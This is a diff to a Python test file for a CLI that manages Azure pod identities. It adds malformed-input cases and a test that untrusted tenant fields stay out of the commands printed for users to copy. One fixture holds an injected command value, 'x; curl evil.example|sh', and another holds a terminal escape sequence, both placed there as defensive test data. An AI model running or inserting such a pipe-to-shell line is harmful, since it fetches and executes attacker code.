@@ -10,6 +10,7 @@ import pytest
 from podidentity.cli.azure_access import (
     ATTACHED_TO,
     identities_of,
+    left_attached,
     next_step,
     record_hosts,
     recorded_hosts,
@@ -44,7 +45,14 @@ def test_the_record_is_read_as_it_was_written() -> None:
     assert recorded_hosts(written) == hosts
 
 
-@pytest.mark.parametrize("text", [None, "", "x", "{}", "[1, null, {}]", '["/x"]', '["azure://"]'])
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(None, "", "x", "{}", "[1, null, {}]", '["/x"]', '["azure://"]'),
+        *("[" * 100_000, "[" + "9" * 10_000 + "]"),
+    ],
+    ids=lambda text: str(text)[:20],
+)
 def test_a_record_that_makes_no_sense_records_nothing(text: str | None) -> None:
     assert recorded_hosts(identity(text)) == []
 
@@ -53,6 +61,27 @@ def test_identities_of_one_azure_identity_are_found_whatever_the_case() -> None:
     same, other = identity(None, IDENTITY.upper()), identity(None, f"{IDENTITY}2")
     broken = {"metadata": {"name": "x", "namespace": "y"}, "spec": {"clientID": "no"}}
     assert identities_of([same, other, broken], WANTED) == [same]
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        None,
+        ["resourceID"],
+        {},
+        {"clientID": CLIENT, "resourceID": "x; curl evil.example|sh"},
+        {"clientID": CLIENT, "resourceID": "\x1b[2J"},
+        {"clientID": CLIENT, "resourceID": {"a": 1}},
+        {"clientID": "x", "resourceID": IDENTITY},
+    ],
+)
+def test_whatever_a_tenant_wrote_no_command_has_it_that_is_printed_to_be_copied(spec: Any) -> None:
+    """`disable --purge` names what stays attached, of all namespaces."""
+    hostile = {**identity(json.dumps([SCALE_SET])), "spec": spec}
+    (warning,) = left_attached([hostile, identity(json.dumps([SCALE_SET]))])
+    assert f"{IDENTITY} stays attached to scale set" in warning
+    assert "as AzureIdentity shop/orders says" in warning
+    assert f"--identities {IDENTITY}" in warning
 
 
 LINKED = (
